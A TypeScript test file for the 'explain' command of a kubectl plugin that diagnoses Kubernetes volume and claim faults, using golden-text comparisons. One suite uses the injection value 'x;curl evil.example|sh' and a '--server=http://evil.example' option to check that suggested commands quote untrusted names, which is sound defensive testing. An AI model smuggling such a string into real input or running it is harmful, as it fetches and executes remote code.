import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect } from "chai";
import { root } from "../../../hack/lib/root.ts";
import { isReason } from "../../../src/api/reasons.ts";
import { explainClaim } from "../../../src/cli/explain/explain-others.ts";
import { explainPod } from "../../../src/cli/explain/explain-pod.ts";
import { rendered } from "../../../src/cli/explain/rendered.ts";
import { claim, claimVolume, facts, intent, now, pod, volume } from "../../lib/builders/cli-objects.ts";
import { readGolden, writeGolden, writeVariable } from "./golden.ts";
import { ofClaims } from "./stories-claims.ts";
import { ofKubeletsVolumes } from "./stories-kubelet.ts";
import { ofOurVolumes } from "./stories-ours.ts";
import { ofSets } from "./stories-sets.ts";

const stories = { ...ofClaims, ...ofKubeletsVolumes, ...ofOurVolumes, ...ofSets };

const file = "explain.golden.txt";

describe("explain", () => {
  const golden = readGolden(file);
  const texts = new Map(Object.entries(stories).map(([title, tell]) => [title, rendered(tell(), now)]));
  if (process.env[writeVariable]) writeGolden(file, texts);

  for (const [title, text] of texts) {
    it(title, () => expect(text).to.equal(golden.get(title)));
  }

  it("has lines of at most 100 columns, but for a word that is longer", () => {
    for (const [title, text] of texts) {
      const long = text.split("\n").filter((line) => line.length > 100 && !/^(orphan|volume) \S+ on \S+$/.test(line));
      expect(long, title).to.deep.equal([]);
    }
  });

  it("has a fault in at most five lines, of a volume that one thing is in the way of", () => {
    const longer: string[] = [];
    let short = 0;
    for (const [title, tell] of Object.entries(stories))
      for (const chain of tell().chains) {
        const faults = chain.findings.filter(({ state }) => state !== "done");
        if (faults.length === 0) continue;
        const only = {
          subject: { kind: "Pod", name: "" },
          summary: "",
          notRead: [],
          chains: [{ ...chain, findings: faults }],
        };
        const lines = rendered(only, now).trim().split("\n").length - 1; // without the title
        if (lines > 5) longer.push(title);
        else short += 1;
      }
    expect(short).to.be.at.least(40);
    // They quote what kubelet or a driver says, or have two causes.
    expect(longer).to.have.members([
      "claim of a generic ephemeral volume, of an earlier pod",
      "attach refused for want of room",
      "driver not registered",
      "attach refused",
      "Multi-Attach: another pod on another node has it",
      "being detached elsewhere, and the driver refuses",
      "dead FUSE, by kubelet's words, while the agent sees no mount",
      "our driver is not on the node",
      "agent was never there",
      "through our driver: the server does not answer",
    ]);
  });

  it("has no text that nothing tells any more", () => {
    expect([...golden.keys()].filter((title) => !texts.has(title))).to.deep.equal([]);
  });

  it("says what to do about everything that is in the way, where there is something to do", () => {
    for (const [title, tell] of Object.entries(stories)) {
      const open = tell().chains.flatMap(({ findings }) => findings.filter(({ state }) => state === "blocked"));
      for (const { code, todo } of open) expect(todo, `${title}: ${code}`).to.match(/\w/);
    }
  });
});

describe("commands of explain", () => {
  const evil = "x;curl evil.example|sh";

  it("have as one word what a tenant has written into a claim, and as no option", () => {
    const todoOf = (volumeName: string) => {
      const unbound = claim("pg", undefined, { volumeName });
      const { chains } = explainPod(facts({ claims: [unbound] }), pod("web", claimVolume("pg"), { node: "worker-1" }));
      return chains.flatMap(({ findings }) => findings).find(({ code }) => code === "ClaimNotBound")?.todo;
    };
    expect(todoOf(evil)).to.contain(`kubectl get pv '${evil}': is it there`);
    expect(todoOf("--server=http://evil.example")).to.contain("kubectl get pv NAME: is it there");
  });

  it("have as one word what an agent has reported", () => {
    const todoOf = (stagingPath: string) => {
      const spec = {
        mode: "Observe" as const,
        observed: { plugin: "kubernetes.io/csi", volumeName: "pv-1" },
        pods: [],
      };
      const observed = intent("worker-1.pg", spec, { state: "Observed", inUse: true, stagingPath });
      const pg = claim("pg", "pv-1");
      const { chains } = explainClaim(
        facts({ claims: [pg], persistentVolumes: [volume("pv-1", "pg")], intents: [observed] }),
        pg,
      );
      return chains.flatMap(({ findings }) => findings).find(({ code }) => code === "StagedWithoutPod")?.todo;
    };
    expect(todoOf(evil)).to.contain(`umount '${evil}', once`);
    expect(todoOf("/a\nb")).to.contain("umount its globalmount, once");
  });
});

describe("codes of explain", () => {
  const text = ["src/explain", "src/cli/explain"]
    .map((folder) => join(root, folder))
    .flatMap((folder) => globSync(join(folder, "*.ts")).map((file) => readFileSync(file, "utf8")))
    .join("\n");
  const document = readFileSync(join(root, "docs/kubectl-nvi.md"), "utf8");
  const codes = new Set(
    [...text.matchAll(/\b(?:code: |(?:reasonFinding|because)\(|\? )"([A-Z]\w+)"/g)].map(([, code = ""]) => code),
  );

  it("are reasons, or in the table of docs/kubectl-nvi.md", () => {
    expect(codes.size).to.be.greaterThan(25);
    const rows = document
      .split("\n")
      .filter((line) => line.startsWith("| "))
      .join("\n");
    const missing = [...codes].filter((code) => !isReason(code) && !new RegExp(`\\b${code}\\b`).test(rows));
    expect(missing).to.deep.equal([]);
  });
});
